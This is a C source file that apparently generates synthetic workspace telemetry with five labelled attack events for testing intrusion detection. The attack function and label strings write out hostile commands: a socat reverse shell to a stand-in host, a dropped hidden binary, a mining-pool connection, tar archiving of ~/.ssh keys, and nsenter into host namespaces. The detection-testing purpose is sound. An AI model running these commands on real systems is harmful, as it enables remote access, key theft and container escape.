	u32 start = 450 + below(150), len = 400 + below(240);
	for (i64 d = first - 1; d <= last; d++) {
		if (((d + 4) % 7 == 0 || (d + 4) % 7 == 6) && !pct(12)) continue; /* weekend */
		i64 c = d * (i64)DAY - off + (i64)(start * MIN) + (i64)ex(20 * MIN) - (i64)(10 * MIN), end = c + (i64)(len * MIN);
		u32 n = nsess[w->cls][0] + below(nsess[w->cls][1] + 1);
		if (w->cls == 0 && pct(40)) n = 0;
		for (u32 i = 0; i < n && c < end; i++) {
			i64 l = (i64)(ex(len_min[w->cls] * MIN) + 5 * MIN);
			if (w->cls == 0) c += (i64)span(0, len * MIN);
			add_sess(w, c, c + l);
			c += l + (i64)(ex(40 * MIN) + 10 * MIN);
		}
		if (w->cls == 3 && pct(40)) {
			i64 s = d * (i64)DAY - off + (i64)((20 * 60 + below(150)) * MIN);
			add_sess(w, s, s + (i64)(span(30, 150) * MIN));
		}
	}
}
static void cover(W *w, u64 t) /* an attack needs its workspace in a session at time t */
{
	u64 s = t - span(20, 50) * MIN, e = t + span(30, 80) * MIN;
	u8 n = 0, i;
	s = s < T0 + SEC ? T0 + SEC : s, e = e > TEND - SEC ? TEND - SEC : e;
	for (i = 0; i < w->nss; i++)
		if (w->ss[i].e + 5 * MIN < s || w->ss[i].s > e + 5 * MIN) w->ss[n++] = w->ss[i];
		else s = w->ss[i].s < s ? w->ss[i].s : s, e = MAXU(e, w->ss[i].e);
	for (i = n; i && w->ss[i - 1].s > s; i--) w->ss[i] = w->ss[i - 1];
	w->ss[i].s = s, w->ss[i].e = e, w->nss = n + 1;
}
static void init_ws(W *w, u32 i, u64 seed)
{
	static const u8 first12[12] = {IMG_PY, IMG_NODE, IMG_GO, IMG_PY, IMG_JAVA, IMG_NODE, IMG_RUST, IMG_PY, IMG_CPP, IMG_GO, IMG_NODE, IMG_PY};
	static const u32 clsw[4] = {14, 30, 38, 18}, rate[4] = {150, 500, 1000, 1900}, ntw[4] = {25, 35, 25, 15};
	u32 sh[N_IMG], tzw[NELEM(tzs)], used = 1;
	char h6[8];
	w->idx = i, w->node = i / 20, w->rng = seed * 0xD1B54A32D192ED03ull ^ (i + 1) * 0x9E3779B97F4A7C15ull, rs = &w->rng, cw = w;
	for (u32 k = 0; k < N_IMG; k++) sh[k] = image_share[k];
	for (u32 k = 0; k < NELEM(tzs); k++) tzw[k] = tzs[k].w;
	w->img = i < 12 ? first12[i] : wpick(sh, N_IMG);
	const char *fn = PICK(first_names), *ln = PICK(last_names);
	snprintf(w->user, sizeof w->user, "%s", fn);
	for (int pass = 0; pass < 3 && used; pass++) { /* unix names: alice, alicek, alicekim42 */
		used = 0;
		for (u32 j = 0; j < i; j++) used |= !strcmp(wss[j].user, w->user);
		if (used) snprintf(w->user, sizeof w->user, pass ? "%s%s%u" : "%s%.1s", fn, ln, below(90));
	}
	snprintf(w->owner, sizeof w->owner, "%s.%s@example.com", fn, ln);
	if (i > 12 && pct(7)) { /* a second workspace of an existing owner */
		W *o = &wss[below(i)];
		memcpy(w->user, o->user, sizeof w->user), memcpy(w->owner, o->owner, sizeof w->owner);
	}
	w->uid = 1000;
	if (w->img == IMG_PY) strcpy(w->home, "/home/jovyan");
	else if (i > 12 && pct(4)) strcpy(w->home, "/root"), w->uid = 0; /* an image that runs everything as root */
	else snprintf(w->home, sizeof w->home, "/home/%s", w->user);
	w->npr = (u8)(1 + below(3));
	for (u8 k = 0; k < w->npr; k++) {
		const char *a = PICK(proj_a);
		snprintf(w->pr[k].name, sizeof w->pr[k].name, "%s-%s", a, PICK(proj_b));
		if (pct(65)) snprintf(w->pr[k].org, sizeof w->pr[k].org, "%s", PICK(orgs));
		else snprintf(w->pr[k].org, sizeof w->pr[k].org, "%s-lab", w->user);
		snprintf(w->pr[k].dir, sizeof w->pr[k].dir, w->img == IMG_PY ? "%s/work/%s" : "%s/%s", w->home, w->pr[k].name);
		w->pr[k].gitlab = pct(12);
	}
	snprintf(w->wsid, sizeof w->wsid, "%s-%s", w->user, strchr(w->pr[0].name, '-') + 1);
	for (u32 j = 0; j < i; j++)
		if (!strcmp(wss[j].wsid, w->wsid)) snprintf(w->wsid + strlen(w->wsid), sizeof w->wsid - strlen(w->wsid), "-%u", i % 1000);
	hex(h6, 6);
	snprintf(w->ns, sizeof w->ns, "ws-%s", w->user), snprintf(w->wl, sizeof w->wl, "ws-%s-%s", w->user, h6), snprintf(w->pod, sizeof w->pod, "%s-0", w->wl);
	w->ip = ip4(10, 52, w->node, 10 + (i % 20) * 12 + below(12));
	w->tz = tzs[wpick(tzw, NELEM(tzs))].off;
	w->cls = (u8)wpick(clsw, 4);
	w->rate = rate[w->cls] * (500 + exp_q[rnd() & 255] / 2) / 1000;
	w->entry = w->img == IMG_PY ? (pct(80) ? EN_JUP : pct(50) ? EN_SSH : EN_KEXEC) : pct(75) ? EN_IDE : pct(68) ? EN_SSH : EN_KEXEC;
	w->zsh = pct(25), w->prompt = w->zsh ? (pct(70) ? PR_OMZ : PR_STAR) : (u8)(pct(55) ? PR_NONE : pct(67) ? PR_PS1 : PR_STAR);
	w->tmux = pct(20), w->gitssh = pct(70), w->rsa = pct(25), w->cred = (u8)(pct(60) ? 0 : pct(62) ? 1 : 2);
	w->aws = pct(25), w->docker = pct(8), w->kube = pct(55), w->extk8s = w->kube && pct(25), w->autofetch = pct(15);
	w->sudopw = w->img == IMG_GO || w->img == IMG_CPP || w->img == IMG_JAVA, w->ephemeral = pct(40), w->old = pct(20), w->gitpanel = pct(50);
	w->ntail = (u8)wpick(ntw, 4);
	for (u8 k = 0, tries = 0; k < w->ntail; tries++) { /* personal tools: Zipf over the tail's ranks */
		u32 r = wpick(zipf_w, NELEM(tail_tools)), dup = !(tail_tools[r].imgs >> w->img & 1);
		for (u8 j = 0; j < k; j++) dup |= w->tail[j] == r;
		if (!dup) w->tail[k++] = (u8)r;
		if (tries == 40) w->ntail = k;
	}
	w->direnv = has_tail("direnv");
	if (i == 3 || i == 5 || i == 7) /* the attacked workspaces: ordinary, active, bash; B has an ed25519 key */
		w->cls = 2, w->rate = 1000, w->zsh = 0, w->prompt = PR_PS1, w->entry = w->img == IMG_PY ? EN_JUP : EN_IDE, w->gitssh = 1, w->rsa = 0;
	for (u32 a = 0; a < N_ACT; a++) w->aw[a] = (u32)jit(base_w[w->img][a]);
	w->aw[A_KUBE] = w->kube ? (u32)jit(40) : 0, w->aw[A_AWS] = w->aws ? (u32)jit(20) : 0, w->aw[A_DOCKER] = w->docker ? (u32)jit(30) : 0;
	for (u8 k = 0; k < w->ntail; k++) w->aw[A_TAIL] += 5 + tail_tools[w->tail[k]].weight / 3;
	if (w->img == IMG_PY && w->entry != EN_JUP) w->aw[A_KERN] /= 4;
	plan(w);
	if (!w->ephemeral) pod_boot(w, T0 - ex(3 * DAY) - HOUR, 1);
}

/* ---- the event loop -------------------------------------------------------------------------------------- */
static void wake(W *w, int kind, u64 t, int arg) { E *e = evnew(E_WAKE, NULL, t, NULL); e->w = w, e->sub = (u8)kind, e->status = arg; }
static u64 a_pkg(P *sh, u64 t) { return TOOL(sh, t, pkg_tools); }
static u64 a_aws(P *sh, u64 t) { return TOOL(sh, t, aws_tools); }
static u64 a_docker(P *sh, u64 t) { return TOOL(sh, t, docker_tools); }
static u64 a_net(P *sh, u64 t) { return TOOL(sh, t, net_tools); } /* curl, wget, ssh, scp */
static u64 (*const shell_acts[N_ACT])(P *, u64) = {a_cmd, a_edit, a_git, a_gitnet, a_build, a_pkg, a_sudo, a_net, a_kube, a_aws, a_docker, a_tail,
						  NULL, a_net, NULL};
static void act(W *w, u64 t)
{
	u32 a = wpick(w->aw, N_ACT);
	P *k = a == A_KERN ? (w->kern ? w->kern : ensure_kernel(w, t)) : NULL, *sh;
	if (a == A_IDE) a_ide(w, t, 0);
	if (a == A_KERN && k) a_kern(k, MAXU(t, k->start + 3 * SEC));
	if (a == A_IDE || a == A_KERN) return;
	sh = ensure_sh(w, t);
	u64 e = shell_acts[a](sh, MAXU(t, sh->start + 50 * MSEC));
	w->busy = MAXU(w->busy, e);
	w->busy = MAXU(w->busy, prompt(sh, e));
	if (pct(6)) snprintf(w->cwd, sizeof w->cwd, "%s", X(pct(50) ? "{pdir}" : pct(50) ? "{pdir}/{sub}" : "{home}")); /* cd */
	if (pct(3)) w->cur = (u8)below(w->npr);
}
static void attack(W *w, int n, u64 t)
{
	P *p = n == 1 || n == 3 ? (w->kern ? w->kern : ensure_kernel(w, t)) : ensure_sh(w, t);
	t = MAXU(t, p->start + 20 * SEC);
	g_label = (u8)n;
	switch (n) {
	case 1: /* the notebook kernel starts a reverse shell */
		p = spawn(p, t, "/usr/bin/socat", "TCP:203.0.113.7:443 EXEC:/bin/bash");
		fin(p, t + span(120, 900) * SEC, 0);
		break;
	case 2: unref(spawn(p, t, "/dev/shm/.x/kworkerd", "")); break; /* a dropped binary, left running */
	case 3: ksock(p, t, ip4(198, 51, 100, 23), 3333); break; /* the kernel talks to a mining pool */
	case 4: /* ~/.ssh archived to /tmp */
		g_label = 0, p = spawn(p, t, "/usr/bin/tar", "czf /tmp/k.tgz %s/.ssh", w->home);
		leaf(p, t + MSEC, 20, "/usr/bin/gzip", "");
		g_label = 4, kfile(p, t + 3 * MSEC, X("{home}/.ssh/id_ed25519"), 4);
		fin(p, t + 60 * MSEC, 0);
		break;
	case 5: /* nsenter into the node's namespaces: setns(fd, CLONE_NEWIPC) first */
		g_label = 0, p = spawn(p, t, "/usr/bin/nsenter", "-t 1 -m -u -i -n sh");
		g_label = 5, kcall(p, t + 400 * USEC, "__x64_sys_setns", 2, 3, 0x08000000);
		fin(p, t + span(20, 600) * SEC, 0);
	}
}
static void handle(E *e)
{
	W *w = cw = e->w;
	u64 t = e->t;
	int i = e->status;
	rs = &w->rng;
	switch (e->sub) {
	case WK_SESS:
		sess_start(w, t, i);
		wake(w, WK_ACT, t + span(5, 60) * SEC, 0), wake(w, WK_BG, t + span(30, 300) * SEC, 0), wake(w, WK_END, w->ss[i].e, i);
		break;
	case WK_ACT: /* bursts of actions, idle gaps between them */
		if (!w->in_sess || t >= w->send) break;
		act(w, t);
		if (w->burst) w->burst--, t += 2 * SEC + ex(11 * SEC * 1000 / w->rate);
		else w->burst = (u8)(2 + below(2 + 8 * w->rate / 1000)), t += 30 * SEC + ex(5 * MIN * 1000 / w->rate);
		wake(w, WK_ACT, t, 0);
		break;
	case WK_BG: /* the IDE polls git; jupyterlab-git when its panel is open */
		if (!w->in_sess || t >= w->send) break;
		if (w->exth) {
			a_ide(w, t, 1);
			if (w->autofetch && t > w->last_fetch + 3 * MIN) g_cwd = w->pr[w->cur].dir, git_net(w->exth, MAXU(t, w->exth->start) + SEC, "fetch"), w->last_fetch = t;
		} else if (w->img == IMG_PY && w->gitpanel)
			g_cwd = w->pr[w->cur].dir, leaf(w->jup, t, 20, "/usr/bin/git", "status --porcelain -b -u -z");
		wake(w, WK_BG, t + 20 * SEC + ex(5 * MIN), 0);
		break;
	case WK_END: /* ephemeral pods stop after a long idle time */
		sess_end(w, t);
		if (w->ephemeral && (i + 1 == w->nss || w->ss[i + 1].s > t + 100 * MIN)) wake(w, WK_STOP, t + span(20, 45) * MIN, 0);
		break;
	case WK_STOP: pod_stop(w, t); break;
	case WK_ATK: attack(w, i, t);
	}
}

int main(int argc, char **argv)
{
	static const char *const spec[] = {"", "rare_parent_child", "rare_writable_binary", "rare_destination", "rare_credential_read", "rare_kernel_action"};
	static const char *const what[] = {"", "notebook kernel (python3 -m ipykernel_launcher) spawns socat TCP:203.0.113.7:443 EXEC:/bin/bash",
					   "bash executes /dev/shm/.x/kworkerd, a binary dropped in a writable hidden directory",
					   "notebook kernel python3 connects to 198.51.100.23:3333 (mining pool port)",
					   "tar reads ~/.ssh/id_ed25519 while archiving ~/.ssh to /tmp/k.tgz",
					   "nsenter -t 1 -m -u -i -n calls setns into the node's namespaces from a code-server workspace"};
	static const u32 atk_ws[6] = {0, 3, 3, 7, 7, 5}, atk_at[6] = {0, 15, 25, 45, 55, 75}; /* workspace, % of the window after the cutoff */
	struct { u64 line, t; char id[88]; W *w; } lab[6] = {{0}};
	u64 seed = 1, grng, tatk[6] = {0};
	const char *labels = NULL, *start = "2026-11-02T00:00:00Z";
	int attacks = 1;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!strcmp(a, "--no-attacks")) attacks = 0;
		else if (v && !strcmp(a, "--workspaces")) n_ws = (u32)strtoul(v, NULL, 10), i++;
		else if (v && !strcmp(a, "--hours")) hours = strtoull(v, NULL, 10), i++;
		else if (v && !strcmp(a, "--seed")) seed = strtoull(v, NULL, 10), i++;
		else if (v && !strcmp(a, "--start")) start = v, i++;
		else if (v && !strcmp(a, "--labels")) labels = v, i++;
		else {
			fprintf(stderr, "usage: genfleet [--workspaces N] [--hours H] [--seed S] [--start RFC3339] [--labels FILE] [--no-attacks]\n");
			return 2;
		}
	}
	if (parse_rfc3339(start, &T0) || !n_ws || n_ws > 50000 || !hours || hours > 24 * 31 || (attacks && n_ws < 8)) {
		fprintf(stderr, "genfleet: needs a valid --start, 1-50000 --workspaces (8 or more with attacks) and 1-744 --hours\n");
		return 2;
	}
	TEND = T0 + hours * HOUR;
	grng = seed ^ 0x5DEECE66Dull, rs = &grng;
	u32 n_nodes = (n_ws + 19) / 20;
	char pool[8], z[8], raw[80];
	hex(pool, 6);
	nodes = calloc(n_nodes, sizeof *nodes);
	for (u32 i = 0; i < n_nodes; i++) { /* nodes of one GKE pool, booted days ago */
		struct node *n = &nodes[i];
		alnum(z, 4);
		for (char *c = z; *c; c++) *c = *c >= 'A' && *c <= 'Z' ? (char)(*c + 32) : *c;
		snprintf(n->name, sizeof n->name, "gke-dev-devpool-%s-%s", pool, z);
		n->boot = T0 - span(2 * DAY, 20 * DAY), n->pid = 2000 + below(400000);
		n->systemd = calloc(1, sizeof(P) + 32), n->systemd->refs = 1, n->systemd->pid = 1, n->systemd->start = n->boot + SEC;
		snprintf(raw, sizeof raw, "%s:%llu:1", n->name, (unsigned long long)SEC);
		b64(raw, n->systemd->id);
	}
	wss = calloc(n_ws, sizeof *wss);
	for (u32 i = 0; i < n_ws; i++) init_ws(&wss[i], i, seed);
	u64 cut = hours >= 24 ? T0 + 14 * HOUR : T0 + hours * HOUR * 6 / 10;
	for (int n = 1; n <= 5 && attacks; n++) {
		rs = &grng;
		u64 pc = atk_at[n] - 3 + below(6);
		tatk[n] = cut + (TEND - 10 * MIN - cut) * pc / 100;
		tatk[n] += rnd() % SEC;
		cover(&wss[atk_ws[n]], tatk[n]);
	}
	for (u32 i = 0; i < n_ws; i++)
		for (u8 s = 0; s < wss[i].nss; s++) wake(&wss[i], WK_SESS, wss[i].ss[s].s, s);
	for (int n = 1; n <= 5 && attacks; n++) wake(&wss[atk_ws[n]], WK_ATK, tatk[n], n);
	while (hn) {
		E *e = hpop();
		now = e->t;
		if (e->t < TEND && e->kind == E_WAKE) handle(e);
		else if (e->t < TEND) {
			if (e->label) lab[e->label].line = lineno + 1, lab[e->label].t = e->t, lab[e->label].w = e->p->w, strcpy(lab[e->label].id, e->p->id);
			render(e);
		}
		unref(e->p), free(e);
	}
	oflush();
	if (clamped) fprintf(stderr, "genfleet: bug: %llu events clamped to the current time\n", (unsigned long long)clamped);
	FILE *f = labels ? fopen(labels, "w") : NULL;
	if (labels && !f) return perror(labels), 1;
	for (int n = 1; n <= 5 && attacks && f; n++) {
		char ts[40];
		if (!lab[n].line) return fprintf(stderr, "genfleet: attack %d fell outside the window\n", n), 1;
		fmt_ts(lab[n].t, ts, 1);
		fprintf(f, "{\"n\":%d,\"spec\":\"%s\",\"workspace\":\"%s\",\"exec_id\":\"%s\",\"time\":\"%s\",\"line\":%llu,\"what\":\"%s\"}\n", n, spec[n],
			lab[n].w->wsid, lab[n].id, ts, (unsigned long long)lab[n].line, what[n]);
	}
	if (f && fclose(f)) return perror(labels), 1;
	return ferror(stdout) ? 1 : 0;
}
